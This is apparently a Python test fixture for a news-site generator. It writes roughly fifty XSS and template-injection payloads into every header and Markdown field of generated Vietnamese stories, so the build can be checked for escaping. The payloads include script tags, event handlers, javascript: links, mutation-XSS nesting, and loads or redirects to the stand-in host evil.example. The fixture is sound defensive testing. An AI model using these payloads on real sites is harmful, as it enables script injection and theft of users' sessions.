"""Strings that try to run or to fetch something, in every field that an editor can fill."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from pathlib import Path

from tests.photos import drawing

EVIL = "https://evil.example"
HIT = "window.__hit=1"

# Each runs in a browser when it reaches a page as it is.
VECTORS = (
    f"<script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f'"><script>{HIT}</script>',
    f"'><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"</textarea></style><script>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script src={EVIL}/x.js></script>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    *(f"<img src=anh.jpg {handler}={HIT}>" for handler in ("onerror", "onload", "onclick")),
    f'" autofocus onfocus={HIT} x="',
    f"' onmouseover={HIT} x='",
    f"<svg onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><script>{HIT}</script></svg>",
    # Closed, since a story of elements that are open in each other is refused as a whole.
    f"<math><mtext><table><mglyph><style><img src=anh.jpg onerror={HIT}></style></mglyph></table></mtext></math>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<body onload={HIT}>",
    f"<video src=clip.mp4 poster=x onerror={HIT}></video>",
    f"<input autofocus onfocus={HIT}>",
    f'<a href="javascript:{HIT}">x</a>',
    f'<a href="{{alert(1)}}javascript:{HIT}">x</a>',
    f'<a href="java&Tab;script:{HIT}">x</a>',
    f'<a href="&#1;javascript:{HIT}">x</a>',
    f'<form action="javascript:{HIT}"><button>x</button></form>',
    '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
    '<iframe src="javascript:parent.__hit=1"></iframe>',
    f'<object data="data:text/html,<script>{HIT}</script>"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f'<p style="background:url({EVIL}/x.png)">x</p>',
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<base href={EVIL}/>",
    f"<picture><source srcset={EVIL}/x.png><img src=anh.jpg></picture>",
    f"<template><script>{HIT}</script></template>",
    f'<noscript><p title="</noscript><img src=anh.jpg onerror={HIT}>">',
    "{{ 7*7 }}{% include 'base.html' %}{{ config }}",
    f"{{: onclick={HIT} }}",
    f'x" onerror="{HIT}" y="',
    f'\\"-{HIT}-\\"',
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
)
# These stop a build, with a finding for each place: a photo of another site is never published.
REFUSED = (f"<img src={EVIL}/x.png>",)

# Where in a story a vector stands; photos are named so that none of them is missing.
BODY_FIELDS = {
    "paragraph": "{v}",
    "block": "<div>\n{v}\n</div>",
    "heading": "## Mục {v}",
    "item": "- {v}\n- hai",
    "cell": "| A | B |\n|---|---|\n| {cell} | 2 |",
    "quotation": "> {v}",
    "strong": "**{v}**",
    "code": "`{v}`",
    "link text": "[{v}](https://example.vn)",
    "link title": '[x](https://example.vn "{v}")',
    "alt": "![{v}](anh.jpg)\nChú thích thường.",
    "photo title": '![Một](anh.jpg "{v}")',
    "caption": "![Một](anh.jpg)\nChú thích {v}.",
    "credit": "![Một](anh.jpg)\nChú thích. Ảnh: {v}",
    "attribute list": "Chữ\n{{: {v} }}",
    "footnote": "Chữ.[^1]\n\n[^1]: {v}",
    "abbreviation": "HTX\n\n*[HTX]: {v}",
}
HEADER_FIELDS = ("Title", "Author", "Tags", "Summary", "Source", "Correction")


def strings() -> int:
    """Return how many strings the corpus holds: each vector in each field."""
    return len(VECTORS) * (len(BODY_FIELDS) + len(HEADER_FIELDS))


def write_corpus(content: Path, vectors: Sequence[str] = VECTORS) -> None:
    """Write one story for each of ``vectors``, which stands in every field of it."""
    drawing.write(content / "2024/anh.jpg", drawing.scene(600, 400))
    (content / "2024/clip.mp4").write_bytes(b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom")
    for number, vector in enumerate(vectors):
        (content / f"2024/tin-{number:02}.md").write_text("\n".join(_story(vector, number)), "utf-8")


def _story(vector: str, number: int) -> Iterator[str]:
    for field in HEADER_FIELDS:
        yield f"{field}: {field} {number} {vector}"
    yield f"Date: 2024-01-{number % 28 + 1:02} 08:00\nCategory: Kinh tế\nModified: 2024-03-01\n"
    for pattern in BODY_FIELDS.values():
        yield pattern.format(v=vector, cell=vector.replace("|", "\\|")) + "\n"
